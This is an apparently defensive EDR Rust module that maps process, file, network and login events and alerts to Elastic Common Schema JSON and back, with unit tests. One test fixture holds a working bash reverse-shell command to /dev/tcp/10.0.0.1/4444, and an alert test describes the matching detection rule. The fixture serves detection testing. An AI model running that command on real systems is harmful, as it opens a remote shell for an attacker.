//! Elastic Common Schema (ECS) documents for events and alerts.
//!
//! Field choices (ECS 8.x names, nested objects):
//!
//! | our field | ECS field |
//! |---|---|
//! | exec pid, ppid, entity ids | `process.pid`, `process.parent.pid`, `process.entity_id`, `process.parent.entity_id` |
//! | exe, argv, cwd, start | `process.executable`, `process.name`, `process.args`, `process.command_line`, `process.working_directory`, `process.start` |
//! | parent exe and argv | `process.parent.executable`, `process.parent.args`, `process.parent.command_line` |
//! | uid, user name | `user.id`, `user.name` |
//! | ancestry (exe paths) | `edr.process.ancestry` (ECS has no field for it) |
//! | exit code | `process.exit_code` |
//! | file op, path, old path, mode | `event.action`, `file.path`/`name`/`directory`, `edr.file.original_path`, `file.mode` (octal) |
//! | network op | `event.action` (`connection_attempted`, `connection_accepted`, `listen`), `network.direction` |
//! | local / remote address | connect: `source` = local, `destination` = remote; accept: `source` = remote, `destination` = local; listen: `destination` = local |
//! | login | `event.category: authentication`, `event.outcome`, `user.name`, `source.ip`, `service.name`, `edr.login.method` |
//! | partial | `edr.partial` |
//!
//! Reading is lenient about what other tools emit: dotted keys
//! (`"process.pid": 1`) as well as nested objects, numbers as strings, a
//! missing `event.category` inferred from the fields present, and
//! `process.command_line` split into arguments when `process.args` is absent.

use crate::time::{parse_rfc3339, to_rfc3339};
use crate::*;
use serde_json::{json, Map, Value};

/// Why an ECS document could not be read as an event.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum EcsError {
    /// The text is not JSON.
    #[error("not valid JSON: {0}")]
    Json(String),
    /// The JSON is not an object.
    #[error("expected a JSON object, found {0}")]
    NotAnObject(&'static str),
    /// A field has the wrong type or value.
    #[error("field `{field}`: {problem}")]
    Field {
        /// The field, as a dotted ECS path.
        field: &'static str,
        /// What is wrong with it.
        problem: String,
    },
    /// Neither `event.category` nor the fields say what kind of event it is.
    #[error("cannot tell what kind of event this is: set `event.category` to process, file, network or authentication")]
    UnknownKind,
}

fn field_err(field: &'static str, problem: impl Into<String>) -> EcsError {
    EcsError::Field { field, problem: problem.into() }
}

/// Host-wide values stamped on every document.
#[derive(Debug, Clone, Default)]
pub struct EcsContext {
    /// `host.hostname`; omitted when `None`.
    pub hostname: Option<String>,
}

// ---------------------------------------------------------------------------
// Writing
// ---------------------------------------------------------------------------

/// Renders an entity id the way ECS carries it: a string (16 hex digits).
pub fn entity_id_string(id: u64) -> String {
    format!("{id:016x}")
}

/// Reads an entity id: ours (16 hex digits), a decimal number, or any other
/// tool's string id (hashed, so the same string always gives the same id).
pub fn entity_id_from_str(s: &str) -> u64 {
    if s.len() == 16 {
        if let Ok(v) = u64::from_str_radix(s, 16) {
            return v;
        }
    }
    if let Ok(v) = s.parse::<u64>() {
        return v;
    }
    // FNV-1a: stable across runs and platforms.
    s.bytes().fold(0xcbf2_9ce4_8422_2325u64, |h, b| (h ^ b as u64).wrapping_mul(0x100_0000_01b3))
}

/// The last component of a path.
pub fn basename(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// Joins arguments into a command line (ECS `process.command_line`).
pub fn command_line(argv: &[String]) -> String {
    argv.join(" ")
}

/// Inserts `value` at a dotted path, creating nested objects.
fn put(doc: &mut Map<String, Value>, path: &str, value: Value) {
    let mut cur = doc;
    let mut parts = path.split('.').peekable();
    while let Some(part) = parts.next() {
        if parts.peek().is_none() {
            cur.insert(part.to_string(), value);
            return;
        }
        let next = cur.entry(part.to_string()).or_insert_with(|| Value::Object(Map::new()));
        if !next.is_object() {
            *next = Value::Object(Map::new());
        }
        cur = next.as_object_mut().expect("just made an object");
    }
}

fn put_opt<T: Into<Value>>(doc: &mut Map<String, Value>, path: &str, value: Option<T>) {
    if let Some(v) = value {
        put(doc, path, v.into());
    }
}

/// `event.category`, `event.type` and `event.action` for an event.
fn classification(body: &EventBody) -> (&'static str, &'static str, &'static str) {
    match body {
        EventBody::ProcessExec(_) => ("process", "start", "exec"),
        EventBody::ProcessExit(_) => ("process", "end", "exit"),
        EventBody::File(f) => {
            let ty = match f.op {
                FileOp::Create => "creation",
                FileOp::Delete => "deletion",
                FileOp::Read => "access",
                FileOp::Modify | FileOp::Rename | FileOp::Chmod | FileOp::Attrib => "change",
            };
            ("file", ty, f.op.as_str())
        }
        EventBody::Network(n) => match n.op {
            NetworkOp::Connect => ("network", "connection", "connection_attempted"),
            NetworkOp::Accept => ("network", "connection", "connection_accepted"),
            NetworkOp::Listen => ("network", "start", "listen"),
            NetworkOp::Close => ("network", "end", "connection_closed"),
        },
        EventBody::Login(_) => ("authentication", "start", "login"),
    }
}

/// The ECS document for an event.
pub fn event_to_ecs(event: &Event, ctx: &EcsContext) -> Value {
    let mut d = Map::new();
    put(&mut d, "@timestamp", to_rfc3339(event.time).into());
    let (category, ty, action) = classification(&event.body);
    put(&mut d, "event.id", event.id.to_string().into());
    put(&mut d, "event.kind", "event".into());
    put(&mut d, "event.category", json!([category]));
    put(&mut d, "event.type", json!([ty]));
    put(&mut d, "event.action", action.into());
    if let Some(h) = &ctx.hostname {
        put(&mut d, "host.hostname", h.clone().into());
    }
    if event.partial {
        put(&mut d, "edr.partial", true.into());
    }
    write_body(&mut d, &event.body);
    Value::Object(d)
}

fn write_process_ref(d: &mut Map<String, Value>, pid: Option<u32>, entity: Option<u64>, exe: Option<&str>) {
    put_opt(d, "process.pid", pid);
    put_opt(d, "process.entity_id", entity.map(entity_id_string));
    if let Some(exe) = exe {
        put(d, "process.executable", exe.into());
        put(d, "process.name", basename(exe).into());
    }
}

fn write_body(d: &mut Map<String, Value>, body: &EventBody) {
    match body {
        EventBody::ProcessExec(e) => {
            write_process_ref(d, Some(e.pid), Some(e.entity_id), Some(&e.exe));
            put(d, "process.args", json!(e.argv));
            put(d, "process.args_count", e.argv.len().into());
            put(d, "process.command_line", command_line(&e.argv).into());
            put(d, "process.working_directory", e.cwd.clone().into());
            put(d, "process.start", to_rfc3339(e.start_time).into());
            put(d, "process.parent.pid", e.ppid.into());
            if e.parent_entity_id != 0 {
                put(d, "process.parent.entity_id", entity_id_string(e.parent_entity_id).into());
            }
            put(d, "process.parent.executable", e.parent_exe.clone().into());
            put(d, "process.parent.name", basename(&e.parent_exe).into());
            put(d, "process.parent.args", json!(e.parent_argv));
            put(d, "process.parent.command_line", command_line(&e.parent_argv).into());
            put(d, "user.id", e.uid.to_string().into());
            put(d, "group.id", e.gid.to_string().into());
            if e.cgroup_id != 0 {
                put(d, "edr.process.cgroup_id", e.cgroup_id.into());
            }
            if !e.user.is_empty() {
                put(d, "user.name", e.user.clone().into());
            }
            put(d, "edr.process.ancestry", json!(e.ancestry));
        }
        EventBody::ProcessExit(e) => {
            write_process_ref(d, Some(e.pid), Some(e.entity_id), None);
            put(d, "process.exit_code", e.exit_code.into());
        }
        EventBody::File(f) => {
            write_process_ref(d, f.pid, f.entity_id, f.exe.as_deref());
            put(d, "file.path", f.path.clone().into());
            put(d, "file.name", basename(&f.path).into());
            if let Some((dir, _)) = f.path.rsplit_once('/') {
                put(d, "file.directory", if dir.is_empty() { "/" } else { dir }.into());
            }
            put_opt(d, "edr.file.original_path", f.old_path.clone());
            put_opt(d, "file.mode", f.mode.map(|m| format!("{:04o}", m & 0o7777)));
            put_opt(d, "user.id", f.uid.map(|u| u.to_string()));
        }
        EventBody::Network(n) => {
            write_process_ref(d, n.pid, n.entity_id, n.exe.as_deref());
            put(d, "network.transport", n.transport.as_str().into());
            let (direction, src, dst) = match n.op {
                NetworkOp::Connect => ("egress", Some((&n.local_ip, n.local_port)), (&n.remote_ip, n.remote_port)),
                NetworkOp::Accept => ("ingress", Some((&n.remote_ip, n.remote_port)), (&n.local_ip, n.local_port)),
                NetworkOp::Listen => ("ingress", None, (&n.local_ip, n.local_port)),
                // Which side opened it is not kept on the close: the local
                // end is the source, so source.bytes is what it sent.
                NetworkOp::Close => ("unknown", Some((&n.local_ip, n.local_port)), (&n.remote_ip, n.remote_port)),
            };
            put(d, "network.direction", direction.into());
            if let Some((ip, port)) = src {
                put(d, "source.ip", ip.clone().into());
                put(d, "source.port", port.into());
            }
            put(d, "destination.ip", dst.0.clone().into());
            put(d, "destination.port", dst.1.into());
            put_opt(d, "user.id", n.uid.map(|u| u.to_string()));
            put_opt(d, "edr.network.netns", n.netns);
            put_opt(d, "source.bytes", n.bytes_sent);
            put_opt(d, "destination.bytes", n.bytes_received);
            if let (Some(sent), Some(received)) = (n.bytes_sent, n.bytes_received) {
                put(d, "network.bytes", sent.saturating_add(received).into());
            }
        }
        EventBody::Login(l) => {
            put(d, "user.name", l.user.clone().into());
            put_opt(d, "source.ip", l.source_ip.clone());
            put(d, "service.name", l.service.clone().into());
            put(d, "edr.login.method", l.method.clone().into());
            put(d, "event.outcome", if l.success { "success" } else { "failure" }.into());
            put_opt(d, "process.pid", l.pid);
        }
    }
}

/// The ECS document for an alert: the triggering event's fields, overlaid
/// with `event.kind: alert`, `rule.*`, `threat.*`, `message` and `edr.*`.
pub fn alert_to_ecs(alert: &Alert, ctx: &EcsContext) -> Value {
    let mut d = match &alert.event {
        Some(ev) => match event_to_ecs(ev, ctx) {
            Value::Object(m) => m,
            _ => Map::new(),
        },
        None => {
            let mut m = Map::new();
            if let Some(h) = &ctx.hostname {
                put(&mut m, "host.hostname", h.clone().into());
            }
            m
        }
    };
    let f = &alert.finding;
    if let Some(Value::Object(ev)) = d.get_mut("event") {
        // The alert is a new document; the event id moves to edr.event_ids.
        ev.remove("id");
    }
    put(&mut d, "@timestamp", to_rfc3339(alert.time).into());
    put(&mut d, "event.id", alert.id.to_string().into());
    put(&mut d, "event.kind", "alert".into());
    put(&mut d, "event.severity", f.severity.ecs_score().into());
    put(&mut d, "rule.id", f.rule_id.clone().into());
    put(&mut d, "rule.name", f.title.clone().into());
    put(&mut d, "rule.author", json!([f.author]));
    put(&mut d, "threat.framework", "MITRE ATT&CK".into());
    put(&mut d, "threat.technique.id", json!(f.techniques));
    put(&mut d, "message", f.message.clone().into());
    put(&mut d, "edr.severity", f.severity.as_str().into());
    put(&mut d, "edr.plugin", alert.plugin.clone().into());
    put(&mut d, "edr.event_ids", json!(f.event_ids.iter().map(|id| id.to_string()).collect::<Vec<_>>()));
    if let Some(p) = &alert.pack {
        put(&mut d, "edr.pack.id", p.id.clone().into());
        put(&mut d, "edr.pack.version", p.version.clone().into());
        put(&mut d, "edr.pack.signer", p.signer.clone().into());
    }
    if !f.evidence.is_empty() {
        let evidence: Map<String, Value> = f.evidence.iter().map(|(k, v)| (k.clone(), Value::String(v.clone()))).collect();
        put(&mut d, "edr.evidence", Value::Object(evidence));
    }
    Value::Object(d)
}

// ---------------------------------------------------------------------------
// Reading
// ---------------------------------------------------------------------------

/// Looks up a dotted path, accepting nested objects, dotted keys, or a mix.
pub fn lookup<'a>(v: &'a Value, path: &str) -> Option<&'a Value> {
    let obj = v.as_object()?;
    if let Some(found) = obj.get(path) {
        return Some(found);
    }
    // Try every split point: "process.parent.pid" -> "process" / "parent.pid", "process.parent" / "pid".
    let mut idx = 0;
    while let Some(pos) = path[idx..].find('.') {
        let split = idx + pos;
        if let Some(inner) = obj.get(&path[..split]) {
            if let Some(found) = lookup(inner, &path[split + 1..]) {
                return Some(found);
            }
        }
        idx = split + 1;
    }
    None
}

fn kind_name(v: &Value) -> &'static str {
    match v {
        Value::Null => "null",
        Value::Bool(_) => "a boolean",
        Value::Number(_) => "a number",
        Value::String(_) => "a string",
        Value::Array(_) => "an array",
        Value::Object(_) => "an object",
    }
}

/// A document being read, with typed accessors that name the field on error.
struct Doc<'a>(&'a Value);

impl<'a> Doc<'a> {
    fn get(&self, path: &str) -> Option<&'a Value> {
        lookup(self.0, path).filter(|v| !v.is_null())
    }

    fn str(&self, path: &'static str) -> Result<Option<&'a str>, EcsError> {
        match self.get(path) {
            None => Ok(None),
            Some(Value::String(s)) => Ok(Some(s)),
            Some(other) => Err(field_err(path, format!("expected a string, found {}", kind_name(other)))),
        }
    }

    fn string(&self, path: &'static str) -> Result<String, EcsError> {
        Ok(self.str(path)?.unwrap_or_default().to_string())
    }

    /// A number given as a JSON number or a decimal string.
    fn uint<T: TryFrom<u64>>(&self, path: &'static str) -> Result<Option<T>, EcsError> {
        let raw = match self.get(path) {
            None => return Ok(None),
            Some(Value::Number(n)) => n.as_u64().ok_or_else(|| field_err(path, format!("`{n}` is not a non-negative integer")))?,
            Some(Value::String(s)) => s.trim().parse::<u64>().map_err(|_| field_err(path, format!("`{s}` is not a non-negative integer")))?,
            Some(other) => return Err(field_err(path, format!("expected a number, found {}", kind_name(other)))),
        };
        T::try_from(raw).map(Some).map_err(|_| field_err(path, format!("{raw} is out of range")))
    }

    fn int(&self, path: &'static str) -> Result<Option<i64>, EcsError> {
        match self.get(path) {
            None => Ok(None),
            Some(Value::Number(n)) => n.as_i64().map(Some).ok_or_else(|| field_err(path, format!("`{n}` is not an integer"))),
            Some(Value::String(s)) => s.trim().parse().map(Some).map_err(|_| field_err(path, format!("`{s}` is not an integer"))),
            Some(other) => Err(field_err(path, format!("expected a number, found {}", kind_name(other)))),
        }
    }

    fn strings(&self, path: &'static str) -> Result<Option<Vec<String>>, EcsError> {
        match self.get(path) {
            None => Ok(None),
            Some(Value::Array(items)) => items
                .iter()
                .map(|v| match v {
                    Value::String(s) => Ok(s.clone()),
                    Value::Number(n) => Ok(n.to_string()),
                    other => Err(field_err(path, format!("expected strings, found {}", kind_name(other)))),
                })
                .collect::<Result<Vec<_>, _>>()
                .map(Some),
            Some(Value::String(s)) => Ok(Some(vec![s.clone()])),
            Some(other) => Err(field_err(path, format!("expected an array of strings, found {}", kind_name(other)))),
        }
    }

    /// A keyword field that ECS allows as a single value or an array.
    fn keywords(&self, path: &'static str) -> Result<Vec<String>, EcsError> {
        Ok(self.strings(path)?.unwrap_or_default().into_iter().map(|s| s.to_ascii_lowercase()).collect())
    }

    fn time(&self, path: &'static str) -> Result<Option<Timestamp>, EcsError> {
        match self.get(path) {
            None => Ok(None),
            Some(Value::String(s)) => parse_rfc3339(s).map(Some).map_err(|e| field_err(path, e)),
            // Epoch milliseconds, as some shippers write them.
            Some(Value::Number(n)) => n.as_u64().map(|ms| Some(ms.saturating_mul(1_000_000))).ok_or_else(|| field_err(path, format!("`{n}` is not a time"))),
            Some(other) => Err(field_err(path, format!("expected a time, found {}", kind_name(other)))),
        }
    }

    fn entity(&self, path: &'static str) -> Result<Option<u64>, EcsError> {
        match self.get(path) {
            None => Ok(None),
            Some(Value::String(s)) => Ok(Some(entity_id_from_str(s))),
            Some(Value::Number(n)) => n.as_u64().map(Some).ok_or_else(|| field_err(path, "not a valid entity id")),
            Some(other) => Err(field_err(path, format!("expected a string, found {}", kind_name(other)))),
        }
    }

    /// `process.args`, or else `process.command_line` split on whitespace.
    fn argv(&self, args: &'static str, cmdline: &'static str) -> Result<Vec<String>, EcsError> {
        if let Some(a) = self.strings(args)? {
            return Ok(a);
        }
        Ok(self.str(cmdline)?.map(|c| c.split_whitespace().map(str::to_string).collect()).unwrap_or_default())
    }
}

/// Parses one line of ECS JSON into an event. Events without `event.id` get id 0;
/// the caller numbers them.
pub fn event_from_json(line: &str) -> Result<Event, EcsError> {
    let v: Value = serde_json::from_str(line).map_err(|e| EcsError::Json(e.to_string()))?;
    event_from_ecs(&v)
}

/// Reads an ECS document as an event.
pub fn event_from_ecs(v: &Value) -> Result<Event, EcsError> {
    if !v.is_object() {
        return Err(EcsError::NotAnObject(kind_name(v)));
    }
    let d = Doc(v);
    let id = d.uint::<u64>("event.id").unwrap_or(None).unwrap_or(0);
    let time = d.time("@timestamp")?.unwrap_or(0);
    let partial = matches!(d.get("edr.partial"), Some(Value::Bool(true)));
    let categories = d.keywords("event.category")?;
    let types = d.keywords("event.type")?;
    let action = d.str("event.action")?.map(str::to_ascii_lowercase);
    let has = |c: &str| categories.iter().any(|x| x == c);

    let body = if has("process") {
        if types.iter().any(|t| t == "end") || action.as_deref() == Some("exit") {
            read_exit(&d)?
        } else {
            read_exec(&d, time)?
        }
    } else if has("file") {
        read_file(&d, action.as_deref(), &types)?
    } else if has("network") {
        read_network(&d, action.as_deref())?
    } else if has("authentication") {
        read_login(&d)?
    } else if !categories.is_empty() {
        return Err(field_err("event.category", format!("unsupported category {:?}; expected process, file, network or authentication", categories)));
    } else if d.get("file.path").is_some() {
        read_file(&d, action.as_deref(), &types)?
    } else if d.get("destination.ip").is_some() || d.get("network.transport").is_some() {
        read_network(&d, action.as_deref())?
    } else if d.get("process.executable").is_some() || d.get("process.args").is_some() || d.get("process.command_line").is_some() {
        read_exec(&d, time)?
    } else {
        return Err(EcsError::UnknownKind);
    };
    Ok(Event { id, time, partial, body })
}

fn read_exec(d: &Doc, time: Timestamp) -> Result<EventBody, EcsError> {
    let argv = d.argv("process.args", "process.command_line")?;
    let exe = match d.str("process.executable")? {
        Some(e) => e.to_string(),
        None => d.str("process.name")?.map(str::to_string).or_else(|| argv.first().cloned()).unwrap_or_default(),
    };
    let parent_exe = match d.str("process.parent.executable")? {
        Some(e) => e.to_string(),
        None => d.string("process.parent.name")?,
    };
    let ancestry = match d.strings("edr.process.ancestry")? {
        Some(a) => a,
        None if !parent_exe.is_empty() => vec![parent_exe.clone()],
        None => Vec::new(),
    };
    let pid = d.uint("process.pid")?.unwrap_or(0);
    let start_time = d.time("process.start")?.unwrap_or(time);
    Ok(EventBody::ProcessExec(ProcessExec {
        pid,
        ppid: d.uint("process.parent.pid")?.unwrap_or(0),
        entity_id: d.entity("process.entity_id")?.unwrap_or_else(|| synthetic_entity(pid, start_time)),
        parent_entity_id: d.entity("process.parent.entity_id")?.unwrap_or(0),
        exe,
        argv,
        cwd: d.string("process.working_directory")?,
        uid: d.uint("user.id")?.unwrap_or(0),
        gid: d.uint("group.id")?.unwrap_or(0),
        cgroup_id: d.uint("edr.process.cgroup_id")?.unwrap_or(0),
        user: d.string("user.name")?,
        start_time,
        parent_exe,
        parent_argv: d.argv("process.parent.args", "process.parent.command_line")?,
        ancestry,
    }))
}

/// An entity id for a process read from a document that carried none.
fn synthetic_entity(pid: u32, start: Timestamp) -> u64 {
    entity_id_from_str(&format!("{pid}@{start}"))
}

fn read_exit(d: &Doc) -> Result<EventBody, EcsError> {
    let pid = d.uint("process.pid")?.unwrap_or(0);
    Ok(EventBody::ProcessExit(ProcessExit {
        pid,
        entity_id: d.entity("process.entity_id")?.unwrap_or(0),
        exit_code: d.int("process.exit_code")?.unwrap_or(0).clamp(i32::MIN as i64, i32::MAX as i64) as i32,
    }))
}

fn read_file(d: &Doc, action: Option<&str>, types: &[String]) -> Result<EventBody, EcsError> {
    let path = d.str("file.path")?.ok_or_else(|| field_err("file.path", "missing"))?.to_string();
    let op = match action {
        Some("create" | "creation" | "file_create_event") => FileOp::Create,
        Some("modify" | "modification" | "overwrite" | "file_modify_event") => FileOp::Modify,
        Some("delete" | "deletion" | "file_delete_event") => FileOp::Delete,
        Some("rename" | "file_rename_event") => FileOp::Rename,
        Some("chmod") => FileOp::Chmod,
        Some("attrib" | "attributes_modified") => FileOp::Attrib,
        Some("read" | "open" | "access") => FileOp::Read,
        _ => {
            let has = |t: &str| types.iter().any(|x| x == t);
            if has("creation") {
                FileOp::Create
            } else if has("deletion") {
                FileOp::Delete
            } else if has("access") {
                FileOp::Read
            } else {
                FileOp::Modify
            }
        }
    };
    let mode = match d.get("file.mode") {
        None => None,
        Some(Value::String(s)) => Some(u32::from_str_radix(s.trim(), 8).map_err(|_| field_err("file.mode", format!("`{s}` is not an octal mode")))?),
        Some(Value::Number(n)) => Some(n.as_u64().and_then(|m| u32::try_from(m).ok()).ok_or_else(|| field_err("file.mode", "not a mode"))?),
        Some(other) => return Err(field_err("file.mode", format!("expected an octal string, found {}", kind_name(other)))),
    };
    Ok(EventBody::File(FileEvent {
        op,
        path,
        old_path: d.str("edr.file.original_path")?.map(str::to_string),
        mode,
        pid: d.uint("process.pid")?,
        entity_id: d.entity("process.entity_id")?,
        exe: d.str("process.executable")?.map(str::to_string),
        uid: d.uint("user.id")?,
    }))
}

fn read_network(d: &Doc, action: Option<&str>) -> Result<EventBody, EcsError> {
    let direction = d.str("network.direction")?.map(str::to_ascii_lowercase);
    let op = match action {
        Some("connect" | "connection_attempted" | "connection-attempted") => NetworkOp::Connect,
        Some("accept" | "connection_accepted" | "connection-accepted") => NetworkOp::Accept,
        Some("listen" | "bind") => NetworkOp::Listen,
        Some("close" | "connection_closed" | "connection-closed") => NetworkOp::Close,
        _ => match direction.as_deref() {
            Some("ingress" | "inbound") => NetworkOp::Accept,
            _ => NetworkOp::Connect,
        },
    };
    let transport = match d.str("network.transport")?.map(str::to_ascii_lowercase).as_deref() {
        None | Some("tcp") => Transport::Tcp,
        Some("udp") => Transport::Udp,
        Some(other) => return Err(field_err("network.transport", format!("unsupported transport `{other}`; expected tcp or udp"))),
    };
    let src = (d.string("source.ip")?, d.uint::<u16>("source.port")?.unwrap_or(0));
    let dst = (d.string("destination.ip")?, d.uint::<u16>("destination.port")?.unwrap_or(0));
    // The model has byte counts on a close only (other sources' connection
    // documents may carry them; they are not ours to keep on a connect).
    let (bytes_sent, bytes_received) = if op == NetworkOp::Close { (d.uint("source.bytes")?, d.uint("destination.bytes")?) } else { (None, None) };
    let ((local_ip, local_port), (remote_ip, remote_port)) = match op {
        NetworkOp::Connect | NetworkOp::Close => (src, dst),
        NetworkOp::Accept => (dst, src),
        NetworkOp::Listen => (dst, (String::new(), 0)),
    };
    Ok(EventBody::Network(NetworkEvent {
        op,
        transport,
        local_ip,
        local_port,
        remote_ip,
        remote_port,
        pid: d.uint("process.pid")?,
        entity_id: d.entity("process.entity_id")?,
        exe: d.str("process.executable")?.map(str::to_string),
        uid: d.uint("user.id")?,
        netns: d.uint("edr.network.netns")?,
        bytes_sent,
        bytes_received,
    }))
}

fn read_login(d: &Doc) -> Result<EventBody, EcsError> {
    let outcome = d.str("event.outcome")?.map(str::to_ascii_lowercase);
    Ok(EventBody::Login(LoginEvent {
        user: d.string("user.name")?,
        source_ip: d.str("source.ip")?.map(str::to_string),
        service: match d.str("service.name")? {
            Some(s) => s.to_string(),
            None => d.string("process.name")?,
        },
        method: d.string("edr.login.method")?,
        success: outcome.as_deref() == Some("success"),
        pid: d.uint("process.pid")?,
    }))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn exec() -> Event {
        Event {
            id: 7,
            time: 1_780_000_000_000_000_000,
            partial: false,
            body: EventBody::ProcessExec(ProcessExec {
                pid: 4242,
                ppid: 4200,
                entity_id: 0xdead_beef,
                parent_entity_id: 0xfeed,
                exe: "/usr/bin/bash".into(),
                argv: vec!["bash".into(), "-c".into(), "id".into()],
                cwd: "/var/www".into(),
                uid: 33,
                gid: 33,
                cgroup_id: 7_301,
                user: "www-data".into(),
                start_time: 1_780_000_000_000_000_000,
                parent_exe: "/usr/sbin/nginx".into(),
                parent_argv: vec!["nginx: worker process".into()],
                ancestry: vec!["/usr/sbin/nginx".into(), "/usr/lib/systemd/systemd".into()],
            }),
        }
    }

    fn round_trip(e: &Event) -> Event {
        let doc = event_to_ecs(e, &EcsContext { hostname: Some("web1".into()) });
        event_from_ecs(&doc).unwrap()
    }

    #[test]
    fn every_kind_round_trips() {
        let base = exec();
        let bodies = vec![
            base.body.clone(),
            EventBody::ProcessExit(ProcessExit { pid: 1, entity_id: 2, exit_code: -9 }),
            EventBody::File(FileEvent {
                op: FileOp::Rename,
                path: "/etc/cron.d/x".into(),
                old_path: Some("/tmp/x".into()),
                mode: Some(0o4755),
                pid: Some(10),
                entity_id: Some(11),
                exe: Some("/usr/bin/mv".into()),
                uid: Some(0),
            }),
            EventBody::Network(NetworkEvent {
                op: NetworkOp::Accept,
                transport: Transport::Tcp,
                local_ip: "10.0.0.2".into(),
                local_port: 22,
                remote_ip: "203.0.113.9".into(),
                remote_port: 51000,
                pid: Some(99),
                entity_id: Some(100),
                exe: Some("/usr/sbin/sshd".into()),
                uid: Some(0),
                netns: None,
                bytes_sent: None,
                bytes_received: None,
            }),
            EventBody::Network(NetworkEvent {
                op: NetworkOp::Listen,
                transport: Transport::Udp,
                local_ip: "0.0.0.0".into(),
                local_port: 53,
                remote_ip: String::new(),
                remote_port: 0,
                pid: None,
                entity_id: None,
                exe: None,
                uid: None,
                netns: None,
                bytes_sent: None,
                bytes_received: None,
            }),
            EventBody::Network(NetworkEvent {
                op: NetworkOp::Close,
                transport: Transport::Tcp,
                local_ip: "10.0.0.2".into(),
                local_port: 51_000,
                remote_ip: "198.51.100.7".into(),
                remote_port: 443,
                pid: Some(321),
                entity_id: Some(322),
                exe: Some("/usr/bin/curl".into()),
                uid: Some(1000),
                netns: Some(4_026_531_840),
                bytes_sent: Some(518),
                bytes_received: Some(40_961),
            }),
            EventBody::Login(LoginEvent {
                user: "alice".into(),
                source_ip: Some("198.51.100.4".into()),
                service: "sshd".into(),
                method: "publickey".into(),
                success: true,
                pid: Some(5),
            }),
        ];
        for body in bodies {
            let e = Event { body, ..base.clone() };
            assert_eq!(round_trip(&e), e);
        }
    }

    #[test]
    fn a_close_is_an_end_with_the_bytes_of_each_side() {
        let e = Event {
            body: EventBody::Network(NetworkEvent {
                op: NetworkOp::Close,
                transport: Transport::Tcp,
                local_ip: "10.0.0.2".into(),
                local_port: 51_000,
                remote_ip: "198.51.100.7".into(),
                remote_port: 443,
                pid: Some(321),
                entity_id: None,
                exe: None,
                uid: None,
                netns: None,
                bytes_sent: Some(6),
                bytes_received: Some(7),
            }),
            ..exec()
        };
        let doc = event_to_ecs(&e, &EcsContext::default());
        assert_eq!((doc["event"]["type"][0].as_str(), doc["event"]["action"].as_str()), (Some("end"), Some("connection_closed")));
        assert_eq!((doc["source"]["ip"].as_str(), doc["source"]["port"].as_u64(), doc["source"]["bytes"].as_u64()), (Some("10.0.0.2"), Some(51_000), Some(6)));
        assert_eq!((doc["destination"]["ip"].as_str(), doc["destination"]["bytes"].as_u64()), (Some("198.51.100.7"), Some(7)));
        assert_eq!((doc["network"]["bytes"].as_u64(), doc["network"]["direction"].as_str()), (Some(13), Some("unknown")));
        // A connect carries no byte fields at all.
        let EventBody::Network(n) = &e.body else { unreachable!() };
        let connect =
            Event { body: EventBody::Network(NetworkEvent { op: NetworkOp::Connect, bytes_sent: None, bytes_received: None, ..n.clone() }), ..exec() };
        let doc = event_to_ecs(&connect, &EcsContext::default());
        assert!(doc["source"].get("bytes").is_none() && doc["destination"].get("bytes").is_none() && doc["network"].get("bytes").is_none(), "{doc}");
    }

    #[test]
    fn reads_the_minimal_replay_line() {
        let line = r#"{"event":{"category":["process"],"type":["start"]},"process":{"pid":4242,"executable":"/usr/bin/bash","args":["bash","-c","bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],"command_line":"bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1","parent":{"pid":4200,"executable":"/usr/sbin/nginx"}}}"#;
        let e = event_from_json(line).unwrap();
        let EventBody::ProcessExec(x) = e.body else { panic!("not an exec") };
        assert_eq!(x.pid, 4242);
        assert_eq!(x.ppid, 4200);
        assert_eq!(x.argv.len(), 3);
        assert_eq!(x.ancestry, vec!["/usr/sbin/nginx"]);
        assert_ne!(x.entity_id, 0);
    }

    #[test]
    fn reads_dotted_keys_and_string_numbers() {
        let e = event_from_json(r#"{"process.pid":"12","process.command_line":"curl -o /tmp/a http://x","event.category":"process"}"#).unwrap();
        let EventBody::ProcessExec(x) = e.body else { panic!() };
        assert_eq!(x.pid, 12);
        assert_eq!(x.argv, vec!["curl", "-o", "/tmp/a", "http://x"]);
        assert_eq!(x.exe, "curl");
    }

    #[test]
    fn errors_name_the_field() {
        let err = event_from_json(r#"{"event":{"category":"process"},"process":{"pid":"abc"}}"#).unwrap_err();
        assert_eq!(err.to_string(), "field `process.pid`: `abc` is not a non-negative integer");
        let err = event_from_json(r#"{"event":{"category":"dns"}}"#).unwrap_err();
        assert!(err.to_string().contains("unsupported category"), "{err}");
        assert!(matches!(event_from_json("[1]"), Err(EcsError::NotAnObject("an array"))));
        assert!(matches!(event_from_json("{\"foo\":1}"), Err(EcsError::UnknownKind)));
        assert!(matches!(event_from_json("{nope"), Err(EcsError::Json(_))));
    }

    #[test]
    fn alert_carries_rule_threat_and_event_fields() {
        let alert = Alert {
            id: 1,
            time: 5,
            plugin: "reverse-shell".into(),
            pack: Some(PackRef { id: "edr.builtin".into(), version: "1.0.0".into(), signer: "dev".into() }),
            finding: Finding {
                rule_id: "edr.revshell.dev-tcp".into(),
                title: "Reverse shell".into(),
                severity: Severity::High,
                techniques: vec!["T1059.004".into()],
                message: "bash redirected to /dev/tcp".into(),
                author: "edr team".into(),
                event_ids: vec![7],
                evidence: vec![("command_line".into(), "bash -i".into())],
            },
            event: Some(exec()),
        };
        let doc = alert_to_ecs(&alert, &EcsContext::default());
        assert_eq!(doc["event"]["kind"], "alert");
        assert_eq!(doc["event"]["severity"], 73);
        assert_eq!(doc["rule"]["id"], "edr.revshell.dev-tcp");
        assert_eq!(doc["rule"]["author"][0], "edr team");
        assert_eq!(doc["threat"]["technique"]["id"][0], "T1059.004");
        assert_eq!(doc["process"]["executable"], "/usr/bin/bash");
        assert_eq!(doc["process"]["parent"]["executable"], "/usr/sbin/nginx");
        assert_eq!(doc["edr"]["pack"]["signer"], "dev");
        assert_eq!(doc["edr"]["event_ids"][0], "7");
        assert_eq!(doc["edr"]["evidence"]["command_line"], "bash -i");
    }
}
